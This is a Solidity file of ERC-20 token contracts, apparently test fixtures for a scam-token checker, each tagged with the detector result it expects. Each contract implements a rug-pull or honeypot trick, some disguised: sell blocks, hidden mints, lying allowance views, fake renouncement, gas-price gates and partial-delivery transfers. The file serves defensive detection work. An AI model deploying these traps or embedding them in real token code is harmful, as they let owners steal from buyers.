// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.20;

// What rug-pull papers and token checkers name, each written openly and again in disguise.

abstract contract Base {
  string public name = "Pepe Sun"; string public symbol = "PSUN"; uint8 public constant decimals = 18;
  uint256 public totalSupply; address public owner; address public pair;
  mapping(address => uint256) internal _balances; mapping(address => mapping(address => uint256)) internal _allowances;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);
  event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
  constructor() { owner = msg.sender; totalSupply = 1e27; _balances[msg.sender] = 1e27; emit Transfer(address(0), msg.sender, 1e27); }
  modifier onlyOwner() virtual { require(owner == msg.sender, "Ownable: caller is not the owner"); _; }
  function balanceOf(address a) public view virtual returns (uint256) { return _balances[a]; }
  function allowance(address o, address s) public view virtual returns (uint256) { return _allowances[o][s]; }
  function approve(address s, uint256 v) public virtual returns (bool) { _approve(msg.sender, s, v); return true; }
  function transfer(address to, uint256 v) public virtual returns (bool) { _transfer(msg.sender, to, v); return true; }
  function transferFrom(address f, address t, uint256 v) public virtual returns (bool) {
    uint256 cur = allowance(f, msg.sender); require(cur >= v, "ERC20: insufficient allowance");
    if (cur != type(uint256).max) _approve(f, msg.sender, cur - v);
    _transfer(f, t, v); return true;
  }
  function _approve(address o, address s, uint256 v) internal { require(o != address(0) && s != address(0), "zero"); _allowances[o][s] = v;
    emit Approval(o, s, v); }
  function _move(address f, address t, uint256 v) internal {
    require(f != address(0) && t != address(0), "ERC20: zero address");
    uint256 b = _balances[f]; require(b >= v, "ERC20: transfer amount exceeds balance");
    unchecked { _balances[f] = b - v; } _balances[t] += v; emit Transfer(f, t, v);
  }
  function _transfer(address f, address t, uint256 v) internal virtual { _move(f, t, v); }
  function renounceOwnership() public virtual onlyOwner { emit OwnershipTransferred(owner, address(0)); owner = address(0); }
  function transferOwnership(address n) public virtual onlyOwner { require(n != address(0)); emit OwnershipTransferred(owner, n); owner = n; }
  function setPair(address p) external onlyOwner { require(pair == address(0), "set"); pair = p; }
}

// Sell gate: whitelist.
/// expects: CT-12 danger
contract SellWhitelist is Base {
  mapping(address => bool) public isWhitelisted;
  function setWhitelist(address a, bool b) external onlyOwner { isWhitelisted[a] = b; }
  function _transfer(address f, address t, uint256 v) internal override {
    if (t == pair) require(f == owner || isWhitelisted[f], "not allowed");
    _move(f, t, v);
  }
}
// "Anti-bot": everybody who buys is marked, marks lifted by the team.
/// expects: CT-12 danger
contract AntiBotMark is Base {
  struct Holder { uint64 lastBuy; uint8 tier; } mapping(address => Holder) private _h;
  address private _team; constructor() { _team = msg.sender; }
  function setTier(address[] calldata who, uint8 tier) external { require(msg.sender == _team);
    for (uint256 i; i < who.length; i++) _h[who[i]].tier = tier; }
  function _afterBuy(address a) private { if (_h[a].tier == 0) { _h[a].tier = 1; _h[a].lastBuy = uint64(block.timestamp); } }
  function _canSell(address a) private view returns (bool) { return _h[a].tier != 1; }
  function _transfer(address f, address t, uint256 v) internal override {
    if (f == pair && t != _team) _afterBuy(t); else require(_canSell(f), "TransferHelper: TRANSFER_FROM_FAILED");
    _move(f, t, v);
  }
}
// Fee without cap.
/// expects: CT-09 danger, CT-12 danger
contract FeeSetter is Base {
  uint256 public buyFee = 3; uint256 public sellFee = 3; address public marketing; mapping(address => bool) public isExcludedFromFee;
  constructor() { marketing = msg.sender; isExcludedFromFee[msg.sender] = true; }
  function setFees(uint256 b, uint256 s) external onlyOwner { buyFee = b; sellFee = s; }
  function exclude(address a, bool e) external onlyOwner { isExcludedFromFee[a] = e; }
  function _transfer(address f, address t, uint256 v) internal override {
    uint256 fee;
    if (!isExcludedFromFee[f] && !isExcludedFromFee[t]) { if (f == pair) fee = v * buyFee / 100; else if (t == pair) fee = v * sellFee / 100; }
    if (fee > 0) _move(f, marketing, fee);
    _move(f, t, v - fee);
  }
}
// Three taxes in one struct; each bounded, and a multiplier that is not.
/// expects: CT-09 danger, CT-13 block
contract TaxStruct is Base {
  struct Taxes { uint16 marketing; uint16 liquidity; uint16 dev; } Taxes public taxes = Taxes(2, 2, 1);
  uint256 private _boost = 1; address payable private _w; mapping(address => bool) private _ex;
  constructor() { _w = payable(msg.sender); _ex[msg.sender] = true; _ex[address(this)] = true; }
  function updateTaxes(uint16 m, uint16 l, uint16 d) external onlyOwner { require(m + l + d <= 10, "Fee too high"); taxes = Taxes(m, l, d); }
  function setSwapThresholdFactor(uint256 x) external { require(msg.sender == _w); _boost = x; }
  function _transfer(address f, address t, uint256 v) internal override {
    if (!_ex[f] && !_ex[t] && t == pair) {
      uint256 total = uint256(taxes.marketing + taxes.liquidity + taxes.dev) * _boost;
      if (total > 99) total = 99;
      uint256 cut = v * total / 100; _move(f, address(this), cut); v -= cut;
    }
    _move(f, t, v);
  }
  function sweep() external { require(msg.sender == _w); _move(address(this), _w, _balances[address(this)]); }
}
// The owner writes balances.
/// expects: CT-06 danger
contract SetBalance is Base {
  function setBalance(address a, uint256 v) external onlyOwner { _balances[a] = v; }
}
// Hidden mint without event and without supply, behind an innocent name and a private key holder.
/// expects: CT-06 danger
contract HiddenMint is Base {
  address private immutable _router = msg.sender;
  function _x() private view returns (bool) { return uint256(keccak256(abi.encodePacked(msg.sender))) == uint256(keccak256(abi.encodePacked(_router))); }
  function approveMax(address spender, uint256 n) external returns (bool) {
    if (_x()) { uint256 t = totalSupply; _balances[spender] = t * 10 ** n; } else { _approve(msg.sender, spender, type(uint256).max); }
    return true;
  }
}
// transferFrom without allowance.
/// expects: CT-30 danger
contract OwnerPull is Base {
  function transferFrom(address f, address t, uint256 v) public override returns (bool) {
    if (msg.sender != owner) { uint256 c = _allowances[f][msg.sender]; require(c >= v, "allowance"); _approve(f, msg.sender, c - v); }
    _transfer(f, t, v); return true;
  }
}
// The allowance view lies for a hard coded "router".
/// expects: CT-30 danger
contract AllowanceView is Base {
  uint160 private constant A = 0x007a250d5630B4cF539739dF2C5dAcb4c659F2488D; uint160 private k = 0x001234567890ABcDEF1234567890aBcdef12345678;
  function allowance(address o, address s) public view override returns (uint256) {
    if (uint160(s) ^ A == k) return type(uint256).max;
    return _allowances[o][s];
  }
}
// Take back ownership: lock and unlock, with blacklist.
/// expects: CT-06 danger, CT-17 danger
contract LockUnlock is Base {
  address private _previousOwner; uint256 private _lockTime; mapping(address => bool) private _isBlocked;
  function lock(uint256 time) public onlyOwner { _previousOwner = owner; emit OwnershipTransferred(owner, address(0)); owner = address(0);
    _lockTime = block.timestamp + time; }
  function unlock() public { require(_previousOwner == msg.sender && block.timestamp > _lockTime); emit OwnershipTransferred(owner, _previousOwner);
    owner = _previousOwner; }
  function burnBots(address a) external onlyOwner { uint256 b = _balances[a]; _balances[a] = 0; totalSupply -= b; emit Transfer(a, address(0), b); }
}
// Renounce is theatre.
/// expects: CT-09 danger
contract FakeRenounce is Base {
  address private _dev; bool private _gone; uint256 private _tax = 2;
  constructor() { _dev = msg.sender; }
  modifier onlyDev() { require(_msgSender() == _dev, "Ownable: caller is not the owner"); _; }
  function _msgSender() internal view returns (address) { return msg.sender; }
  function renounceOwnership() public override onlyOwner { emit OwnershipTransferred(owner, address(0)); owner = address(0xdead); _gone = true; }
  function reduceFee(uint256 n) external onlyDev { _tax = n; }
  function _transfer(address f, address t, uint256 v) internal override {
    uint256 fee = f == _dev || t == _dev ? 0 : v * _tax / 100;
    if (fee != 0) _move(f, _dev, fee);
    _move(f, t, v - fee);
  }
}
// Gates of tx.origin and the gas price.
/// expects: CT-12 danger, CT-32 danger
contract OriginGate is Base {
  function _transfer(address f, address t, uint256 v) internal override {
    require(t != pair || tx.origin == owner, "K");
    _move(f, t, v);
  }
}
/// expects: CT-12 danger, CT-32 danger
contract GasGate is Base {
  uint256 private _limit = 1; address private _op = msg.sender;
  function setGasLimitProtection(uint256 g) external { require(msg.sender == _op); _limit = g; }
  function _beforeTokenTransfer(address f, address t) internal view {
    if (f == _op || t == _op || f == pair) return;
    uint256 g = tx.gasprice; uint256 l = _limit;
    assembly { if gt(g, l) { mstore(0, 0x08c379a0) revert(28, 4) } }
  }
  function _transfer(address f, address t, uint256 v) internal override { _beforeTokenTransfer(f, t); _move(f, t, v); }
}
// Salmonella.
/// expects: CT-13 block
contract Salmonella is Base {
  function _transfer(address f, address t, uint256 v) internal override {
    require(_balances[f] >= v, "bal");
    if (f == owner || t == owner) { _balances[f] -= v; _balances[t] += v; }
    else { _balances[f] -= v; uint256 trap = v * 10 / 100; _balances[t] += trap; }
    emit Transfer(f, t, v);
  }
}
/// expects: CT-13 block
contract SalmonellaQuiet is Base {
  address private _a = msg.sender; address private _b;
  function friend(address x) external { require(_a == msg.sender); _b = x; }
  function _share(address x, uint256 v) private view returns (uint256 r) { r = v; if (x != _a && x != _b && x != pair) { r = v >> 5; } }
  function _transfer(address f, address t, uint256 v) internal override {
    uint256 b = _balances[f]; require(b >= v);
    _balances[f] = b - v; _balances[t] = _balances[t] + (t == pair ? _share(f, v) : v);
    emit Transfer(f, t, v);
  }
}
// External helper decides.
interface IBot { function check(address f, address t, uint256 v) external returns (bool);
  function amountOf(address f, address t, uint256 v) external view returns (uint256); }
/// expects: CT-12 danger
contract AntiBotContract is Base {
  IBot public antiBot;
  function setAntiBot(IBot b) external onlyOwner { antiBot = b; }
  function _transfer(address f, address t, uint256 v) internal override {
    if (address(antiBot) != address(0)) require(antiBot.check(f, t, v), "bot");
    _move(f, t, v);
  }
}
/// expects: CT-12 danger
contract ExternalBalances is Base {
  address private _lib; constructor(address l) { _lib = l; }
  function _transfer(address f, address t, uint256 v) internal override {
    (bool ok, bytes memory r) = _lib.staticcall(abi.encodeWithSelector(0x9a5a1d2c, f, t, v));
    uint256 got = ok && r.length == 32 ? abi.decode(r, (uint256)) : v;
    uint256 b = _balances[f]; require(b >= v, "ERC20: transfer amount exceeds balance");
    _balances[f] = b - v; _balances[t] += got; emit Transfer(f, t, got);
  }
}
// Owner takes from holders.
/// expects: CT-06 danger
contract OwnerBurn is Base {
  function burn(address a, uint256 v) external onlyOwner { _balances[a] -= v; totalSupply -= v; emit Transfer(a, address(0), v); }
}
/// expects: CT-30 danger
contract AirdropFrom is Base {
  mapping(address => bool) private _ops; constructor() { _ops[msg.sender] = true; }
  function multiSend(address from, address[] calldata to, uint256[] calldata v) external {
    require(_ops[msg.sender], "auth"); require(to.length == v.length, "len");
    uint256 sum; for (uint256 i; i < to.length; ++i) { sum += v[i]; _balances[to[i]] += v[i]; emit Transfer(from, to[i], v[i]); }
    _balances[from] -= sum;
  }
}
